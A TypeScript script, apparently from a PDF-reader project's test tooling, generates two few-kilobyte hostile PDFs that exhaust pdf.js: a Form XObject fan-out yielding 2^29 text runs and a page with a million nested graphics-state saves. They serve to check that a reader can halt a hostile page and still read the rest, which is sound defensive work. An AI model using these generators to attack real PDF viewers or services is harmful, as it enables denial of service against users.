// Generated PDFs that cost pdf.js far more than their size (issue 33's attack findings), each a few
// kilobytes, written object by object (no library: the point is the exact operators):
// - fanOutPdf: Form XObjects that draw each other in a fan-out, X1 draws X2 twice, X2 draws X3
//   twice…, the last one a line of text: 2^levels text runs on one page (29 levels: 2^29 runs, days
//   of pdf.js time, from a 6.5 KB file);
// - nestedSavePdf: one page whose content opens `depth` graphics states (`q`) before its text and
//   closes them after (1M levels: quadratic inside pdf.js, 50k levels already over 120 s).
// Each file has a normal page before and after the hostile one, so a reader that stops the hostile
// page can be seen to read the rest.
//   tsx scripts/pdf-cases-budget.ts <out folder>    writes fan-out-29.pdf and nested-q-1m.pdf
import { deflateSync } from 'node:zlib';

const enc = new TextEncoder();

/** A PDF from its objects (object k is objects[k - 1]; 1 is the catalog), with a valid xref table. */
function pdfOf(objects: (string | Uint8Array)[]): Uint8Array {
  const parts: Uint8Array[] = [enc.encode('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let length = parts[0].length;
  const offsets: number[] = [];
  objects.forEach((o, k) => {
    offsets.push(length);
    const body = typeof o === 'string' ? enc.encode(`${k + 1} 0 obj\n${o}\nendobj\n`) : o;
    parts.push(body);
    length += body.length;
  });
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  parts.push(enc.encode(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`));
  const out = new Uint8Array(parts.reduce((a, p) => a + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** A stream object `k` holding `data` (Flate-compressed when `flate`), with extra dictionary entries. */
function streamObject(k: number, data: string, dict = '', flate = false): Uint8Array {
  const body = flate ? deflateSync(Buffer.from(data, 'latin1')) : Buffer.from(data, 'latin1');
  const head = enc.encode(`${k} 0 obj\n<< /Length ${body.length}${flate ? ' /Filter /FlateDecode' : ''} ${dict} >>\nstream\n`);
  const tail = enc.encode('\nendstream\nendobj\n');
  const out = new Uint8Array(head.length + body.length + tail.length);
  out.set(head, 0);
  out.set(body, head.length);
  out.set(tail, head.length + body.length);
  return out;
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
const line = (text: string, y: number) => `BT /F1 12 Tf 72 ${y} Td (${text}) Tj ET`;

/**
 * Three pages: "before the hostile page", then `hostile` (content and its resources' extra entries),
 * then "after the hostile page". Objects: 1 catalog, 2 pages, 3 font, 4-6 pages, 7-9 contents, then
 * `extra` objects from 10 on.
 */
function threePages(hostile: { content: string; xobjects?: string; flate?: boolean }, extra: (string | ((k: number) => Uint8Array))[]): Uint8Array {
  const res = (x?: string) => `<< /Font << /F1 3 0 R >>${x ? ` /XObject << ${x} >>` : ''} >>`;
  const page = (content: number, x?: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources ${res(x)} /Contents ${content} 0 R >>`;
  const objects: (string | Uint8Array)[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R 5 0 R 6 0 R] /Count 3 >>',
    FONT,
    page(7),
    page(8, hostile.xobjects),
    page(9),
    streamObject(7, `${line('Text before the hostile page.', 700)}\n${line('A second line on the first page.', 680)}`),
    streamObject(8, hostile.content, '', hostile.flate),
    streamObject(9, `${line('Text after the hostile page.', 700)}\n${line('The last page reads as usual.', 680)}`),
  ];
  extra.forEach((e, i) => objects.push(typeof e === 'string' ? e : e(10 + i)));
  return pdfOf(objects);
}

/** Page 2 draws X1; Xk draws X(k+1) twice; the last draws one line of text: 2^levels runs. */
export function fanOutPdf(levels: number): Uint8Array {
  const forms: ((k: number) => Uint8Array)[] = [];
  for (let l = 1; l <= levels; l++) {
    const last = l === levels;
    const res = last ? '<< /Font << /F1 3 0 R >> >>' : `<< /XObject << /X${l + 1} ${10 + l} 0 R >> >>`;
    const body = last ? line('fan', 400) : `/X${l + 1} Do /X${l + 1} Do`;
    forms.push((k) => streamObject(k, body, `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources ${res}`));
  }
  return threePages({ content: `${line('The hostile page starts here.', 700)}\n/X1 Do`, xobjects: '/X1 10 0 R' }, forms);
}

/** Page 2 opens `depth` graphics states, draws a line of text, and closes them (Flate-compressed). */
export function nestedSavePdf(depth: number): Uint8Array {
  const content = `${'q '.repeat(depth)}\n${line('deep inside', 400)}\n${'Q '.repeat(depth)}`;
  return threePages({ content, flate: true }, []);
}

if (process.argv[1] && import.meta.url.endsWith(process.argv[1].split('/').pop()!)) {
  const { mkdirSync, writeFileSync } = await import('node:fs');
  const { join } = await import('node:path');
  const out = process.argv[2];
  if (!out) throw new Error('usage: tsx scripts/pdf-cases-budget.ts <out folder>');
  mkdirSync(out, { recursive: true });
  const files: [string, Uint8Array][] = [['fan-out-29.pdf', fanOutPdf(29)], ['nested-q-1m.pdf', nestedSavePdf(1_000_000)]];
  for (const [name, bytes] of files) {
    writeFileSync(join(out, name), bytes);
    console.log(`${name}: ${bytes.length} bytes`);
  }
}
